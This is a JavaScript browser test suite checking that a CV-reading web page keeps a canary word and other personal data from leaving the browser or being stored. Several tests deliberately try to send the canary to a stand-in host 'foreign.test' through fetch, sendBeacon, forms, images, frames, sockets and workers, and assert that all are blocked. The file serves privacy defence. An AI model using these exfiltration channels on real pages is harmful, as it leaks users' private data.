// Nothing of a CV leaves the browser: looked for at the proxy through which everything goes.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { STEPS, complete, goTo, openPage, openSite, put, read, takeDemo } from './site.mjs';

/** @type {import('./site.mjs').Site} */
let site;
before(async () => {
  site = await openSite();
});
after(() => site.close());

const CANARY = 'kanariefågel4711';

/** The same word in the dresses in which it could leave. */
const DRESSES = [
  CANARY,
  encodeURIComponent(CANARY),
  Buffer.from(CANARY).toString('base64').slice(0, -2),
  Buffer.from(` ${CANARY}`).toString('base64').slice(2, -4),
  Buffer.from(`  ${CANARY}`).toString('base64').slice(4, -2),
  Buffer.from(CANARY).toString('hex'),
  Buffer.from(CANARY, 'utf16le').toString('latin1'),
  'kanarief',
].map((dress) => dress.toLowerCase());

/** @param {import('./site.mjs').Sent[]} sent */
function assertNoCanary(sent) {
  for (const { address, head, body } of sent) {
    const all = `${address}\n${head}\n${body.toString('latin1')}\n${body.toString('utf8')}`.toLowerCase();
    for (const dress of DRESSES) assert.ok(!all.includes(dress), `${dress} in ${address}`);
  }
}

test('the list is the same and in the same order whatever is written, and after it nothing is asked for', async () => {
  const lists = [];
  for (const text of ['', `Jag är svetsare. ${CANARY}`]) {
    const first = site.sent.length;
    // Written as early as the field is there, while the page still fetches.
    const { page, complaints, close } = await openPage(site, { wait: false });
    await page.locator('#cv-text').fill(text);
    await page.locator('#target').fill(text && 'Undersköterska');
    await put(page, '#ad', text);
    await complete(page);
    const shown = await page.locator('.receipt tbody th').allTextContents();
    const files = site.sent.slice(first).map(({ path }) => path);
    // Scripts of threads are asked for by the page that looks at them, then by the browser that starts them. At last
    // the browser keeps the page.
    const looked = files.slice(0, files.indexOf('/sw.js'));
    const fetched = looked.filter(
      (path, index) => /\.(json|wasm|gz)$|\/(worker|readers)\.js$/.test(path) && looked.indexOf(path) === index,
    );
    assert.deepEqual(
      fetched.map((path) => path.replace(/^.*\//, '')),
      shown,
      'the page shows what it fetched',
    );
    lists.push(files.filter((path) => path !== '/icon.svg'));
    const last = site.sent.length;
    await takeDemo(page, 0);
    await page.locator('#cv-text').fill(`Jag är svetsare med truckkort. ${CANARY} 19900101-2384`);
    await read(page);
    for (const step of STEPS) await goTo(page, step);
    await goTo(page, 'occupations');
    await page.locator('#choose-0').click();
    await page.locator('.step-gap').waitFor();
    await page.locator('#other-target').fill(CANARY);
    await page.locator('#language').click();
    await goTo(page, 'competences');
    await page.locator('.competence input').first().uncheck();
    await page.goBack();
    await page.waitForTimeout(500);
    assert.deepEqual(
      site.sent.slice(last).map(({ address }) => address),
      [],
      'nothing is asked for after the list',
    );
    assert.match((await page.locator('#receipt-line').textContent()) ?? '', /nothing more is fetched\. Show the list$/);
    assert.deepEqual(complaints, []);
    await close();
  }
  assert.deepEqual([...lists[1]].sort(), [...lists[0]].sort());
  const data = (/** @type {string[]} */ list) => list.filter((path) => /\.(json|wasm|gz)$/.test(path));
  assert.deepEqual(data(lists[1]), data(lists[0]));
  assertNoCanary(site.sent);
});

test('the thread that sees the CV has no network', async () => {
  const { page, close } = await openPage(site);
  const [worker] = page.workers();
  const first = site.sent.length;
  const tries = await worker.evaluate(async (canary) => {
    const out = /** @type {{ [way: string]: string }} */ ({});
    const note = async (/** @type {string} */ way, /** @type {() => unknown} */ attempt) => {
      try {
        await attempt();
        out[way] = 'went';
      } catch {
        out[way] = 'refused';
      }
    };
    await note('fetch', () => fetch(`/index.html?${canary}`));
    await note('foreign', () => fetch(`http://foreign.test/?${canary}`, { mode: 'no-cors' }));
    await note('post', () => fetch('/', { method: 'POST', body: canary }));
    await note(
      'xhr',
      () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.open('GET', `/index.html?${canary}`);
          request.onload = resolve;
          request.onerror = reject;
          request.send();
        }),
    );
    await note(
      'events',
      () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(`/index.html?${canary}`);
          source.onopen = resolve;
          source.onerror = reject;
        }),
    );
    await note(
      'socket',
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(`ws://${location.host}/?${canary}`);
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
    );
    return out;
  }, CANARY);
  assert.deepEqual(tries, {
    fetch: 'refused',
    foreign: 'refused',
    post: 'refused',
    xhr: 'refused',
    events: 'refused',
    socket: 'refused',
  });
  await page.waitForTimeout(300);
  assert.deepEqual(
    site.sent.slice(first).map(({ address }) => address),
    [],
  );
  await close();
});

test('the page says whether the net is closed to the worker, which it is not on a host that sets no policy', async () => {
  for (const [bare, sentence] of /** @type {const} */ ([
    [false, /läser ditt cv har ingen förbindelse/],
    [true, /stänger inte av nätet/],
  ])) {
    site.bare(bare);
    const { page, complaints, close } = await openPage(site);
    await page.locator('.receipt > summary').click();
    assert.match((await page.locator('.receipt').textContent()) ?? '', sentence);
    assert.deepEqual(complaints, [], 'the page works under its own policy alone');
    await close();
  }
  site.bare(false);
});

test('the page can send nothing to another host, by no form, link, picture, style, script, thread, frame or markup', async () => {
  const { page, close } = await openPage(site);
  const first = site.sent.length;
  const refused = await page.evaluate(async (canary) => {
    const out = [];
    const foreign = `http://foreign.test/?${canary}`;
    await fetch(foreign, { mode: 'no-cors' }).catch(() => out.push('fetch'));
    const put = (/** @type {HTMLElement} */ element) => document.body.append(element);
    const form = document.createElement('form');
    form.action = foreign;
    form.method = 'post';
    put(form);
    form.submit();
    const image = document.createElement('img');
    image.src = foreign;
    put(image);
    const style = document.createElement('link');
    style.rel = 'stylesheet';
    style.href = foreign;
    put(style);
    const frame = document.createElement('iframe');
    frame.src = foreign;
    put(frame);
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = foreign;
      Reflect.set(link, 'as', 'fetch');
      put(link);
    }
    const ping = document.createElement('a');
    ping.href = '#';
    ping.ping = foreign;
    put(ping);
    ping.click();
    navigator.sendBeacon(foreign, canary);
    for (const address of [foreign, `data:text/javascript,fetch('${foreign}')`, '/main.js']) {
      try {
        new Worker(address);
      } catch {
        out.push('worker');
      }
    }
    await navigator.serviceWorker.register(`/main.js?${canary}`).catch(() => out.push('keeper'));
    try {
      document.body.innerHTML = '<p>';
    } catch {
      out.push('innerHTML');
    }
    try {
      const script = document.createElement('script');
      script.src = foreign;
    } catch {
      out.push('script');
    }
    return out;
  }, CANARY);
  assert.deepEqual(refused, ['fetch', 'worker', 'worker', 'worker', 'keeper', 'innerHTML', 'script']);
  await page.waitForTimeout(500);
  assert.deepEqual(
    // A changed address makes the browser fetch the page's own icon again.
    site.sent.slice(first).flatMap(({ address, path }) => (path === '/icon.svg' ? [] : address)),
    [],
  );
  await close();
});

test('the fields are in no form, have no name, and are not to be remembered, corrected or translated', async () => {
  const { page, close } = await openPage(site);
  for (const id of ['cv-text', 'target', 'ad']) {
    const field = await page.locator(`#${id}`).evaluate((element) => ({
      form: element.closest('form') !== null,
      ...Object.fromEntries(
        ['name', 'autocomplete', 'spellcheck', 'writingsuggestions', 'translate'].map((name) => [
          name,
          element.getAttribute(name),
        ]),
      ),
    }));
    assert.deepEqual(
      field,
      {
        form: false,
        name: null,
        autocomplete: 'off',
        spellcheck: 'false',
        writingsuggestions: 'false',
        translate: 'no',
      },
      id,
    );
  }
  assert.equal(await page.locator('form').count(), 0);
  await close();
});

test('nothing of the person is left in the browser, only the page itself', async () => {
  const { page, close } = await openPage(site);
  await takeDemo(page, 0);
  await page.locator('#cv-text').fill(`Jag är svetsare. ${CANARY}`);
  await read(page);
  const left = await page.evaluate(async () => {
    const kept = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const text = await (await cache.match(request))?.text();
        kept.push({ path: request.url.slice(location.href.length), canary: text?.includes('kanarief') });
      }
    }
    return {
      local: localStorage.length,
      session: sessionStorage.length,
      cookies: document.cookie,
      databases: (await indexedDB.databases()).length,
      canary: kept.filter(({ canary }) => canary).length,
      strange: kept.filter(({ path }) => !/^([\w-]+\/)*[\w.-]+\.(html|js|json|css|svg|wasm|gz|txt)$/.test(path)),
    };
  });
  assert.deepEqual(left, { local: 0, session: 0, cookies: '', databases: 0, canary: 0, strange: [] });
  await close();
});
